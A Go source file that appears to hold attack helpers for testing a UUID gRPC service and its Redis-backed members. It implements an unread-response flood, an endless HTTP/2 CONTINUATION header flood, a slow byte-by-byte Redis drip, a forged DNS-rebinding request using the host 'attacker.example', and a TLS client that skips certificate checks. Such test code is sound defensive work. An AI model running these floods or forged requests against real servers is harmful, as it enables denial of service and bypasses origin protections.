package attacks

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/credentials/insecure"

	snowraftv1 "github.com/snowraft/snowraft/proto/snowraft/v1"
)

// deaf is a connection whose reads block after from is closed, until ctx ends.
type deaf struct {
	net.Conn
	from chan struct{} // closed when reads begin to block
	ctx  context.Context
}

func (d *deaf) Read(b []byte) (int, error) {
	select {
	case <-d.from:
		<-d.ctx.Done()
		return 0, d.ctx.Err()
	default:
		return d.Conn.Read(b)
	}
}

// UnreadAnswers makes this many calls on one connection and does not read the answers, until ctx ends. Each call
// requests the maximum number of UUIDs.
func UnreadAnswers(ctx context.Context, api string, calls int, options ...grpc.DialOption) error {
	from := make(chan struct{})
	options = append([]grpc.DialOption{grpc.WithTransportCredentials(insecure.NewCredentials())}, options...)
	options = append(options, grpc.WithContextDialer(func(ctx2 context.Context, address string) (net.Conn, error) {
		conn, err := (&net.Dialer{}).DialContext(ctx2, "tcp", address)
		if err != nil {
			return nil, err
		}
		return &deaf{Conn: conn, from: from, ctx: ctx}, nil
	}))
	conn, err := grpc.NewClient("passthrough:///"+api, options...)
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { _ = conn.Close() })
	client := snowraftv1.NewIdServiceClient(conn)
	if _, err := client.GenerateUuids(ctx, &snowraftv1.GenerateUuidsRequest{Count: 1}); err != nil {
		return err
	}
	close(from)
	for range calls {
		go func() { _, _ = client.GenerateUuids(ctx, &snowraftv1.GenerateUuidsRequest{Count: 100_000}) }()
	}
	return nil
}

// HugeHeaders opens connections to the API, and sends a header of size bytes that never ends on each. The connections
// stay open until ctx ends. It returns the number of header bytes that the connections accepted.
func HugeHeaders(ctx context.Context, api string, connections, size int) (taken int64, err error) {
	const piece = 16 << 10
	// A literal header with a new name and a value of size bytes.
	field := append([]byte{0, 1, 'x', 0x7f}, binary.AppendUvarint(nil, uint64(size-0x7f))...) //nolint:gosec // positive
	open := append([]byte(preface), frame(frameHeaders, 0, 1, field)...)                      // no end of headers
	next := frame(frameContinuation, 0, 1, make([]byte, piece))
	for range connections {
		conn, err := dial(ctx, "tcp", api)
		if err != nil {
			if refused(err) {
				continue
			}
			return taken, err
		}
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		if _, err := conn.Write(open); err != nil {
			continue // refused
		}
		for sent := 0; sent < size; sent += piece {
			n, err := conn.Write(next)
			taken += int64(n)
			if err != nil {
				break
			}
		}
	}
	return taken, nil
}

// Drip sends a Redis command byte by byte at intervals. It returns the time after which the member closed the connection,
// or the command was complete.
func Drip(ctx context.Context, redis, command string, interval time.Duration) (time.Duration, error) {
	conn, err := dialer(ctx, "tcp").DialContext(ctx, "tcp", redis)
	if err != nil {
		return 0, err
	}
	defer conn.Close() //nolint:errcheck // nothing is buffered
	began := time.Now()
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		_, _ = io.Copy(io.Discard, conn)
	}()
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for i := range len(command) {
		if _, err := conn.Write([]byte{command[i]}); err != nil {
			break
		}
		select {
		case <-closed:
			return time.Since(began), nil
		case <-tick.C:
		case <-ctx.Done():
			return 0, ctx.Err()
		}
	}
	return time.Since(began), nil
}

// Rebind sends the request of a browser whose page comes from a site that resolves its own name to the member's address
// (DNS rebinding). It returns the status of the answer.
func Rebind(ctx context.Context, address, method, path, body string) (int, error) {
	req, err := http.NewRequestWithContext(ctx, method, "http://"+address+path, strings.NewReader(body))
	if err != nil {
		return 0, err
	}
	_, port, err := net.SplitHostPort(address)
	if err != nil {
		return 0, err
	}
	req.Host = net.JoinHostPort("attacker.example", port)
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	req.Header.Set("Sec-Fetch-Mode", "cors")
	req.Header.Set("User-Agent", "Mozilla/5.0")
	if method != http.MethodGet {
		req.Header.Set("Origin", "http://"+req.Host)
		req.Header.Set("Content-Type", "application/json")
	}
	return answered(req, false)
}

// OverTLS returns the option of a gRPC client that uses TLS and verifies no certificate.
func OverTLS() grpc.DialOption {
	return grpc.WithTransportCredentials(credentials.NewTLS(unjudged()))
}
